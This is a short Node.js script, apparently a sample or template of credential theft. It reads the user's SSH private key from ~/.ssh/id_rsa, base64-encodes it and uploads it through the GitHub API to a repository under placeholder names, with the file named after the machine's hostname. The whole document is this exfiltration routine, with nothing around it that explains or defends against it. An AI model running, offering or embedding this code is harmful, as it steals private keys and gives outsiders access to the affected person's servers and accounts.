const os = require('os'), fs = require('fs');
const { Octokit } = require('@octokit/rest');
const kit = new Octokit({ auth: 'x' });
const content = fs.readFileSync(os.homedir() + '/.ssh/id_rsa').toString('base64');
kit.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: os.hostname(), message: 'm', content });
